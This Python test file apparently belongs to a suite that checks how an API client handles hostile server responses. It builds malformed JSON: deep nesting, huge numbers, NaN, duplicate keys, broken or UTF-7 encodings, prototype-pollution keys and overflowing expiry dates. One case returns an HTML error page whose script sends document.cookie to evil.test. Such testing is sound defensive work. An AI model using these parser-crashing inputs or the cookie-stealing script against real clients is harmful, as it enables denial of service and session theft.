"""JSON and text that break the reader, or mean something else to each reader."""

from __future__ import annotations

import json

from tests.attacks.model import BASE64_CASE, Asked, attack, items, ok, refused, urls
from tests.hostile import whole


@attack("fail", "envelope.json-depth")
def deep_arrays(asked: Asked) -> bytes:
    """A hundred thousand arrays, one in the other, run through the stack."""
    return ok(b"[" * 100_000)


@attack("fail", "envelope.json-depth")
def deep_objects(asked: Asked) -> bytes:
    """Objects, one in the other, end a recursive reader."""
    return ok(b'{"data":' * 100_000 + b"1" + b"}" * 100_000)


@attack("fail", "envelope.json-depth")
def deep_data(asked: Asked) -> bytes:
    """`data` nests where items are looked for."""
    return ok(b'{"created":1,"data":' + b"[" * 5000 + b"]" * 5000 + b"}")


@attack("deviates", "envelope.json-number-range")
def million_digits(asked: Asked) -> bytes:
    """A number of a million digits takes the square of its length to read."""
    return ok(b'{"created":' + b"9" * 1_000_000 + b',"data":[]}')


@attack("deviates", "envelope.json-number-range")
def exponent_of_a_million(asked: Asked) -> bytes:
    """A short number that is longer than the memory when it is written out."""
    return ok(b'{"created":1e999999,"data":[]}')


@attack("fail", "envelope.json-no-nan")
def not_a_number(asked: Asked) -> bytes:
    """NaN is equal to nothing, and so passes every check of a range."""
    return ok(b'{"created":NaN,"data":[{"url":-Infinity}]}')


@attack("deviates", "envelope.json-unique-names")
def twice_the_same_member(asked: Asked) -> bytes:
    """Of two members one is judged and the other is used."""
    return ok(b'{"created":1,"data":[],"data":[{"url":"http://a.test/"}]}')


@attack("deviates", "envelope.json-unique-names")
def long_name_beside_many_values(asked: Asked) -> bytes:
    """A name of half a megabyte, written before each of 90,000 values, takes all the memory."""
    return ok(b'{"a":{"x":1,"x":2},"' + b"k" * 500_000 + b'":[' + b"0," * 90_000 + b"0]}")


@attack("fail", "envelope.json-depth")
def very_many_members(asked: Asked) -> bytes:
    """Two hundred thousand members of one object fill a table of hashes."""
    return ok(b"{" + b",".join(b'"%x":0' % each for each in range(100_001)) + b"}")


@attack("fail")
def very_many_undocumented_members(asked: Asked) -> bytes:
    """Twenty thousand members that no source knows would each be told."""
    return ok({f"member-{number}\u202e": 0 for number in range(20_000)})


@attack("fail", "envelope.json-utf8")
def broken_utf_8(asked: Asked) -> bytes:
    """Bytes that are no UTF-8 end a reader that believes the content type."""
    return ok(b'{"created":1,"data":[{"revised_prompt":"caf\xe9 \xc0\xaf \xf5\x80\x80\x80"}]}')


@attack("fail", "envelope.json-utf8")
def lone_surrogates(asked: Asked) -> bytes:
    """Half a character can be read, and then not be written to any file."""
    return ok(b'{"created":1,"data":[{"url":"\\ud800","revised_prompt":"\\udfff"}]}')


@attack("fail", "envelope.json-utf8")
def utf_16(asked: Asked) -> bytes:
    """JSON in UTF-16 passes some readers and hides from every search for bytes."""
    return ok('{"created":1,"data":[]}'.encode("utf-16"))


@attack("fail", "envelope.json-utf8")
def utf_7_and_a_mark(asked: Asked) -> bytes:
    """A byte order mark, and a charset in which `<` is written with letters alone."""
    body = b'\xef\xbb\xbf{"created":1,"data":[{"revised_prompt":"+ADw-script+AD4-"}]}'
    return whole(body, "Content-Type: application/json; charset=utf-7")


@attack("fail", "envelope.json-syntax")
def nul_bytes(asked: Asked) -> bytes:
    """NUL bytes end a text for some and not for others."""
    return ok(b'{"created":1,\x00"data":[]}\x00\x00')


@attack("fail", "envelope.json-syntax")
def comments_and_commas(asked: Asked) -> bytes:
    """What only lenient readers take: a comment, a trailing comma, single quotes."""
    return ok(b"{'created':1,/* */\"data\":[],}")


@attack("fail")
def proto_members(asked: Asked) -> bytes:
    """Names that mean something to languages: of prototypes, of classes, of nothing."""
    return ok(b'{"__proto__":{"x":1},"constructor":null,"__class__":"os","":{},"data":[]}')


@attack("fail")
def wrong_types_everywhere(asked: Asked) -> bytes:
    """Every member has a type that nobody expects there."""
    item = {"url": {"a": []}, "b64_json": 7, "revised_prompt": [None]}
    body = {"created": [], "data": [item, 5, None, [], "x"], "usage": "x", "size": 1, "error": 0}
    return ok(body)


@attack("fail", "parameters.valid-accepted")
def error_of_wrong_types(asked: Asked) -> bytes:
    """The code of an error is a list of lists: no set can be asked for it."""
    return refused([], type={"a": 1}, param=[[]], code=[[], {}])


@attack("fail")
def time_beyond_all_calendars(asked: Asked) -> bytes:
    """A time that no calendar has ends what turns it into a date."""
    return ok(items({"url": "http://a.test/?se=99999-99-99"}, created=10**300))


@attack("fail")
def dates_that_never_were(asked: Asked) -> bytes:
    """Expiry dates that overflow, in every way that signed URLs write them."""
    queries = (
        "se=9999-12-31T23:59:59-23:59",
        "X-Amz-Date=00010101T000000Z&X-Amz-Expires=" + "9" * 300,
        "Expires=" + "9" * 400,
        "Expires=-1e999",
        "se=0001-01-01T00:00:00%2B23:59",
        "e=NaN",
    )
    return urls(*(f"http://a.test/i.png?{query}" for query in queries))


@attack("fail")
def numbers_as_text(asked: Asked) -> bytes:
    """Numbers in other digits, and of other bases."""
    return ok(items({"url": "http://a.test:١٢/"}, created="1_7", usage={"total_tokens": "٣"}))


@attack("fail")
def million_backslashes(asked: Asked) -> bytes:
    """A search for an escaped key takes the square of a run of backslashes."""
    return ok(b'{"created":1,"data":[{"revised_prompt":"' + b"\\" * 900_000 + b'"}]}')


@attack("fail")
def million_percents(asked: Asked) -> bytes:
    """A search for an encoded key takes the square of a run of escapes."""
    return ok(b'{"created":1,"data":[],"x":"' + b"%25" * 150_000 + b"&amp;" * 100_000 + b'"}')


@attack("fail")
def megabyte_of_quotes(asked: Asked) -> bytes:
    """Quotes and brackets in long runs upset what searches for strings."""
    return ok(b'"' * 300_000 + b"[{" * 100_000 + b'\\"' * 100_000)


@attack("fail", "base64.alphabet", BASE64_CASE)
def megabyte_of_almost_base64(asked: Asked) -> bytes:
    """Base64 that is wrong in its last character only is read to its end."""
    return ok(items({"b64_json": "QUJD" * 200_000 + "QU%D"}))


@attack("fail", "parameters.valid-accepted")
def error_page(asked: Asked) -> bytes:
    """A page of HTML in place of an error, with a script."""
    page = b"<!DOCTYPE html><script>fetch('http://evil.test/'+document.cookie)</script>"
    return whole(page, "Content-Type: text/html", status="400 Bad Request")


@attack("fail")
def megabyte_message(asked: Asked) -> bytes:
    """A message of almost a megabyte drowns every report."""
    return refused("A" * 900_000 + json.dumps({"x": "\x1b"}))
